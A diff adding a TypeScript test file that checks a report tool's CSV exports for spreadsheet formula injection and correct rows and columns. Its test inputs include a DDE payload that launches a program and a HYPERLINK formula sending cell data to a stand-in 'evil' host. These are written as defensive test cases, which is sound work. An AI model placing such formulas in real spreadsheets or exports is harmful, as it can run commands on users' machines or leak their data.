@@ -1,0 +1,258 @@
+// The tables: what a spreadsheet and a reader of CSV make of them.
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import type { Report } from "../../src/model/report.ts";
+import { accessCsv } from "../../src/reporters/access-csv.ts";
+import { csv } from "../../src/reporters/csv.ts";
+import { findingsCsv } from "../../src/reporters/findings-csv.ts";
+import { planCsv } from "../../src/reporters/plan-csv.ts";
+import { valueText } from "../../src/reporters/values.ts";
+import { spreadsheet, visible } from "../../src/text.ts";
+import { attacks, broken, drifted, finding, hostile, idOf, incomplete, manyRevisions } from "./fixture.ts";
+import { acts, readSheet, type Row, unquoted } from "./spreadsheet.ts";
+
+const tables = { csv, findingsCsv, planCsv, accessCsv };
+const columns = (rows: readonly Row[], ...names: string[]) => rows.map((row) => names.map((name) => row[name]));
+
+/** Texts that some spreadsheet runs, or took for something else once. */
+const formulas = [
+  "=1+1",
+  "+1",
+  "-1+cmd|' /C calc'!A0",
+  "@SUM(A1)",
+  "\t=1",
+  "\r=1",
+  " =1",
+  "\uff1d1",
+  "\ufe661",
+  '"=1"',
+  "a\n=1",
+  ";=1",
+  "a;=1",
+  'a; "=1',
+  '=HYPERLINK("http://evil?"&A1)',
+  "|calc",
+  "%0A=1",
+  "\ufeff=1",
+  "\u0000=1",
+  "'=1",
+  "''=1",
+  "\u22121",
+];
+
+describe("a cell", () => {
+  it.each(formulas)("holds no formula: %j", (text) => {
+    const shown = spreadsheet(text);
+    expect(shown).not.toMatch(acts);
+    expect(unquoted(shown)).toBe(visible(text));
+  });
+
+  it("never holds one, and gives back what it was made of", () => {
+    const part = fc.constantFrom(...formulas, "=", "'", '"', ";", " ", "a", "\\u{3b}", "＝", ",");
+    const text = fc.oneof(
+      fc.string({ unit: "binary" }),
+      fc.array(part).map((parts) => parts.join("")),
+    );
+    fc.assert(
+      fc.property(text, (text) => {
+        const shown = spreadsheet(text);
+        expect(shown).not.toMatch(acts);
+        expect(unquoted(shown)).toBe(visible(text));
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it("of a value differs from that of every other value", () => {
+    const values = [null, "", "not set", "null", "true", true, 1, "1", [], "[]", {}, ["a,b"], ["a", "b"], '"a"', "a"];
+    const secret = { $secret: "literal", fingerprint: "fp:run:1" };
+    const texts = [...values, secret, "[secret fp:run:1]"].map(valueText);
+    expect(new Set(texts).size).toBe(texts.length);
+    expect(valueText([secret])).toBe('["[secret fp:run:1]"]');
+  });
+
+  it("is cut before a spreadsheet would cut it, and says so", () => {
+    for (const letter of ["x", "\u202e", "\u{1f600}", ";=", "漢"]) {
+      const [row] = readSheet(
+        planCsv({ ...drifted(), findings: [finding(1, { message: letter.repeat(40_000) })] }),
+      ).rows;
+      const text = row!["finding"]!;
+      expect(text.length).toBeLessThanOrEqual(32_767);
+      expect(text).toMatch(/… \([\d,]+ characters; the JSON report has all of them\)$/);
+      expect(text).not.toMatch(/\p{Surrogate}|\\(?:u(?:\{[0-9a-f]*)?)?…/u);
+    }
+  });
+});
+
+describe.each(Object.entries(tables))("%s", (_, render) => {
+  it("holds no formula, wherever the text comes from", () => {
+    const check = (text: string) => {
+      for (const row of readSheet(render(hostile(drifted(), [text]))).rows)
+        for (const cell of Object.values(row)) if (!/^-?\d+$/.test(cell)) expect(cell).not.toMatch(acts);
+    };
+    for (const text of [...attacks, ...formulas]) check(text);
+    fc.assert(
+      fc.property(fc.string({ unit: "binary" }), (text) => check(text)),
+      { numRuns: 100 },
+    );
+  });
+
+  it("has the same rows and columns whatever the texts are", () => {
+    const shape = (report: Report) => {
+      const { names, rows } = readSheet(render(report));
+      return [names, rows.length];
+    };
+    for (const text of [...attacks, ...formulas]) expect(shape(hostile(drifted(), [text]))).toEqual(shape(drifted()));
+  });
+
+  it("says the verdict on every row, and on one row alone where there is no other", () => {
+    for (const report of [drifted(), broken(), incomplete()]) {
+      const { rows } = readSheet(render(report));
+      expect(rows.length).toBeGreaterThan(0);
+      for (const row of rows)
+        expect([row["organization"], row["as_of"], row["verdict"]]).toEqual([
+          report.organization,
+          report.asOf,
+          report.verdict,
+        ]);
+    }
+    expect(readSheet(render(incomplete())).rows).toHaveLength(1);
+  });
+});
+
+describe("the change register", () => {
+  it("has one row for each revision and setting", () => {
+    const report = manyRevisions(1000);
+    const changes = report.revisions.flatMap(({ revision, at, by, changes }) =>
+      changes.map(({ subject, op, direction, before, after }) => [
+        String(revision),
+        at,
+        by.id,
+        by.email,
+        by.name ?? "",
+        subject,
+        op,
+        direction,
+        valueText(before),
+        valueText(after),
+      ]),
+    );
+    const names = [
+      "revision",
+      "at",
+      "editor_id",
+      "editor_email",
+      "editor_name",
+      "pointer",
+      "op",
+      "direction",
+      "before",
+    ];
+    expect(columns(readSheet(csv(report)).rows, ...names, "after")).toEqual(changes);
+  });
+
+  it("says which rules govern the setting, who agreed, and what the change opened and closed", () => {
+    const names = ["setting", "editor_approved", "added", "approval", "approval_result", "rules", "opened", "closed"];
+    const windows = `${idOf(3)} ${idOf(4)}`;
+    // A finding on another setting or on the editor stands at every change of the revision, its own at its own alone.
+    const others = [5, 6, 7].map(idOf).join(" ");
+    expect(columns(readSheet(csv(drifted())).rows, ...names)).toEqual([
+      ["sandbox.enabled", "yes", "", "", "", "", windows, ""],
+      ["sandbox.enabled", "yes", "", "CHG-7", "authorized", "", "", windows],
+      ["customModels.custom:llm.apiKey", "yes", "", "", "", "", "", ""],
+      [
+        "modelPolicy.allowedModelIds",
+        "no",
+        '["gpt-x-preview"]',
+        "",
+        "",
+        "models/modelPolicy.allowedModelIds",
+        `${idOf(1)} ${others}`,
+        "",
+      ],
+      ["wikiCloudSync", "no", "", "", "", "", others, ""],
+    ]);
+  });
+
+  it("shows what is as new as asked for, and says what it leaves out", () => {
+    const report = { ...drifted(), view: { reportSeverity: null, since: "5", failOn: "high" as const } };
+    const { rows } = readSheet(csv(report));
+    expect(columns(rows, "revision")).toEqual([["5"], ["5"]]);
+    expect(rows[0]!["not_shown"]).toMatch(/3 revisions before revision 5 are not shown/);
+  });
+});
+
+describe("the findings", () => {
+  it("are one row each, with who began and who ended them", () => {
+    const { rows } = readSheet(findingsCsv(drifted()));
+    expect(columns(rows, "id", "status")).toEqual(drifted().findings.map(({ id, status }) => [id, status]));
+    expect(rows[2]).toMatchObject({
+      introduced_revision: "2",
+      introduced_by_email: "bo@example.com",
+      resolved_revision: "3",
+      resolved_by_email: "ada@example.com",
+      exposure_seconds: "11700",
+      exposure: "was open 3 h 15 min",
+      since_last: "resolved",
+      policy_file: "policies/sandbox.yaml",
+      policy_line: "4",
+    });
+    expect(rows[5]).toMatchObject({
+      exception_owner: "ada@example.com",
+      actual: "[secret fp:run:2]",
+      severity: "medium",
+    });
+  });
+
+  it("keep numbers numbers, and texts that look like numbers texts", () => {
+    const { raw } = readSheet(
+      findingsCsv({ ...drifted(), findings: [finding(1, { exposureSeconds: 5, title: "5" })] }),
+    );
+    expect(raw).toContain("5");
+    expect(raw).toContain('"5"');
+  });
+});
+
+describe("the action plan", () => {
+  it("has what is open, worst first, with nothing filled in that people decide", () => {
+    const { rows } = readSheet(planCsv(drifted()));
+    expect(columns(rows, "severity", "rule", "editor", "remedy")).toEqual([
+      [
+        "high",
+        "models/modelPolicy.allowedModelIds",
+        "mallory@example.net",
+        "remove gpt-x-preview from modelPolicy.allowedModelIds",
+      ],
+      [
+        "high",
+        "editors/unapproved",
+        "mallory@example.net",
+        "Have the revision reviewed; then add the editor to the policy.",
+      ],
+      ["medium", "autonomy/maxAutonomyLevel", "not known", "set maxAutonomyLevel to medium"],
+      ["low", "integrity/revision-gap", "not known", ""],
+    ]);
+    for (const row of rows)
+      for (const name of ["decision", "reason", "responsible", "target_date", "ticket", "completed_on"])
+        expect(row[name]).toBe("");
+  });
+});
+
+describe("the access review", () => {
+  it("has everybody that a setting names, everyone and nobody, and everybody who changed the controls", () => {
+    const { rows } = readSheet(accessCsv(drifted()));
+    expect(columns(rows, "basis", "who", "may", "limited_to", "since_revision", "granted_by", "exact")).toEqual([
+      ["setting", "user_01ADA", "Who may start missions.", "", "3", "ada@example.com", "yes"],
+      ["setting", "(nobody)", "Who may use hosted computers.", "", "1", "ada@example.com", "no"],
+      ["setting", "user_01BO", "The models this user may use.", '["gpt-5"]', "2", "bo@example.com", "yes"],
+      ["history", "ada@example.com", "Changed the controls.", "", "", "", ""],
+      ["history", "bo@example.com", "Changed the controls.", "", "", "", ""],
+      ["history", "mallory@example.net", "Changed the controls.", "", "", "", ""],
+    ]);
+  });
+
+  it("leaves nobody out for a severity or a time", () => {
+    const view = { reportSeverity: "critical", since: "999999", failOn: "high" } as const;
+    expect(readSheet(accessCsv({ ...drifted(), view })).rows).toHaveLength(6);
+  });
+});
